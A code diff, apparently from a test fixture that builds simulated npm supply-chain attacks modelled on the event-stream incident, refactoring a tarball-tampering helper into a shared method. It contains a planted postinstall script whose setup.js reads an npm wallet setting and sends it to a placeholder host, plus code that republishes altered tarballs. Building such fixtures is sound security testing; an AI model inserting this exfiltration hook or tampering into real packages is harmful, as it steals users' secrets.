@@ -8,11 +8,9 @@ repository (found through its README), and a PyPI project with an sdist and a wh
 
 from __future__ import annotations
 
-import io
 import json
 import os
 import shutil
-import tarfile
 import tempfile
 from collections.abc import Iterator
 from contextlib import contextmanager
@@ -37,24 +35,6 @@ def _environment(values: dict[str, str]) -> Iterator[None]:
             else:
                 os.environ[key] = old
         http.reset_client()
-
-
-def _inject(tarball: Path, out: Path, changes: dict[str, bytes]) -> Path:
-    """The event-stream move: republish a tarball with files changed or added."""
-    with tarfile.open(tarball) as src, tarfile.open(out, "w:gz") as dst:
-        for member in src.getmembers():
-            name = member.name.removeprefix("package/")
-            if name in changes:
-                data = changes.pop(name)
-                member.size = len(data)
-                dst.addfile(member, io.BytesIO(data))
-            else:
-                dst.addfile(member, src.extractfile(member))
-        for name, data in changes.items():
-            info = tarfile.TarInfo("package/" + name)
-            info.size = len(data)
-            dst.addfile(info, io.BytesIO(data))
-    return out
 
 
 def build(world: World) -> list[str]:
@@ -85,11 +65,11 @@ def build(world: World) -> list[str]:
     manifest = json.loads((pkg / "package.json").read_text())
     manifest["dependencies"] = {"flatmap-stream": "^0.1.0"}
     manifest["scripts"] = {"postinstall": "node lib/setup.js"}
-    evil = _inject(world.npm_pack(pkg), world.root / "stream-merge-3.3.6.tgz", {
+    evil = world.tamper_npm(world.npm_pack(pkg), {
         "package.json": json.dumps(manifest, indent=2).encode(),
         "index.js": (pkg / "index.js").read_bytes() + b"require('./lib/setup');\n",
         "lib/setup.js": b"const k = process.env.npm_config_wallet; require('https').get('https://x.invalid/' + k);\n",
-    })
+    }, world.root / "stream-merge-3.3.6.tgz")
     purls.append(world.publish_npm(evil, git_head=sha))
 
     repo, pkg = world.npm_project("demo/quiet-util", "quiet-util", "0.4.0",
